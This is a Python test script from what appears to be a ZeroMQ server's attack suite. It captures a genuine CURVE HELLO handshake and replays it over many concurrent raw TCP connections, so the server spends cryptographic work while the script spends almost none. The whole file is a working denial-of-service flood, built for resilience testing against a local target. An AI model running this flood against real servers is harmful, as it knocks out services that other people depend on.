#!/usr/bin/env python3
"""A CURVE HELLO replay flood, for courier's attack suite (interop-tests/tests/attacks.rs).

First captures one genuine CURVE HELLO command: a pyzmq DEALER with the client key pair of
--key-file and the server key of --server-key-file connects to a listener of this script, which
answers with a CURVE server greeting and records the 200-octet HELLO that follows. Then, for
--duration seconds, replays that HELLO against --connect over plain TCP sockets (from --source
if given), --in-flight at
a time: each connection sends a CURVE greeting and the HELLO, reads the server's greeting and
WELCOME (or sees the connection closed), and is closed; a new one takes its place. The flood
costs this process a connect and a few hundred bytes per HELLO and no cryptography at all; the
server pays for each (opening the HELLO box and making a WELCOME with a fresh cookie key).

Prints one JSON object per line, flushed:
  {"event":"started","pid":N,"hello":<hex of the HELLO frame>}
  {"event":"progress","welcomes":N,"refused":N,"seconds":S}   (every second)
  {"event":"exit","welcomes":N,"refused":N,"seconds":S,"errors":{why: N}}
and exits 0 after --duration seconds or on SIGTERM/SIGINT.
"""

import argparse
import errno
import json
import os
import selectors
import signal
import socket
import struct
import sys
import time

import zmq
import zmq.auth

STOP = {"reason": None}
HELLO_LEN = 2 + 200
# A WELCOME frame: flags, size (168), then "\x07WELCOME", nonce and box.
WELCOME_LEN = 2 + 168


def emit(event, **fields):
    obj = {"event": event}
    obj.update(fields)
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


def on_signal(signum, _frame):
    STOP["reason"] = signal.Signals(signum).name


def greeting(as_server):
    g = bytearray(64)
    g[0] = 0xFF
    g[9] = 0x7F
    g[10] = 3
    g[11] = 1
    g[12:17] = b"CURVE"
    g[32] = 1 if as_server else 0
    return bytes(g)


def capture_hello(key_file, server_key_file):
    public, secret = zmq.auth.load_certificate(key_file)
    server_public, _ = zmq.auth.load_certificate(server_key_file)
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(1)
    ctx = zmq.Context()
    s = ctx.socket(zmq.DEALER)
    s.linger = 0
    s.curve_publickey = public
    s.curve_secretkey = secret
    s.curve_serverkey = server_public
    s.connect("tcp://127.0.0.1:%d" % lst.getsockname()[1])
    conn, _ = lst.accept()
    conn.settimeout(5)
    conn.sendall(greeting(True))
    buf = b""
    while len(buf) < 64 + HELLO_LEN:
        chunk = conn.recv(4096)
        if not chunk:
            sys.exit("the pyzmq client closed before sending its HELLO")
        buf += chunk
    hello = buf[64 : 64 + HELLO_LEN]
    if hello[0] != 0x04 or hello[1] != 200 or hello[2:8] != b"\x05HELLO":
        sys.exit("not a HELLO: %s" % hello.hex())
    conn.close()
    lst.close()
    s.close(0)
    ctx.term()
    return hello


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--connect", required=True, help="tcp://127.0.0.1:PORT")
    ap.add_argument("--key-file", required=True, help="a client's NAME.key_secret")
    ap.add_argument("--server-key-file", required=True, help="the server's NAME.key")
    ap.add_argument("--duration", type=float, default=10.0)
    ap.add_argument("--in-flight", type=int, default=16)
    ap.add_argument("--source", default=None,
                    help="local address to connect from (e.g. 127.0.0.40: another source address)")
    args = ap.parse_args()
    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    hello = capture_hello(args.key_file, args.server_key_file)
    host, port = args.connect.removeprefix("tcp://").rsplit(":", 1)
    target = (host, int(port))
    request = greeting(False) + hello
    sel = selectors.DefaultSelector()
    counts = {"welcomes": 0, "refused": 0}
    errors = {}  # why connections ended without a WELCOME: errno name or "eof at N bytes"

    def launch():
        s = socket.socket()
        # Closed with a reset: no TIME_WAIT, so the flood never runs out of local ports.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        if args.source:
            s.bind((args.source, 0))
        s.setblocking(False)
        err = s.connect_ex(target)
        if err not in (0, errno.EINPROGRESS):
            why = "connect: " + errno.errorcode.get(err, str(err))
            errors[why] = errors.get(why, 0) + 1
            counts["refused"] += 1
            s.close()
            return False
        # [sent, received]
        sel.register(s, selectors.EVENT_WRITE, [0, 0])
        return True

    def retire(s, outcome):
        counts[outcome] += 1
        sel.unregister(s)
        s.close()

    emit("started", pid=os.getpid(), hello=hello.hex())
    start = time.monotonic()
    next_report = start + 1.0
    for _ in range(args.in_flight):
        launch()
    while STOP["reason"] is None:
        now = time.monotonic()
        if now - start >= args.duration:
            STOP["reason"] = "duration"
            break
        for key, mask in sel.select(0.1):
            s, state = key.fileobj, key.data
            try:
                if mask & selectors.EVENT_WRITE:
                    state[0] += s.send(request[state[0] :])
                    if state[0] == len(request):
                        sel.modify(s, selectors.EVENT_READ, state)
                    continue
                chunk = s.recv(4096)
            except OSError as e:
                why = errno.errorcode.get(e.errno, str(e.errno))
                errors[why] = errors.get(why, 0) + 1
                retire(s, "refused")
                launch()
                continue
            if not chunk:
                why = "eof after %d bytes" % state[1]
                errors[why] = errors.get(why, 0) + 1
                retire(s, "refused")
                launch()
                continue
            state[1] += len(chunk)
            if state[1] >= 64 + WELCOME_LEN:
                retire(s, "welcomes")
                launch()
        now = time.monotonic()
        if now >= next_report:
            emit("progress", seconds=round(now - start, 3), **counts)
            next_report += 1.0
        # Keep --in-flight connections going even if some could not be opened.
        while len(sel.get_map()) < args.in_flight and launch():
            pass

    emit("exit", reason=STOP["reason"], seconds=round(time.monotonic() - start, 3),
         errors=errors, **counts)
    return 0


if __name__ == "__main__":
    sys.exit(main())
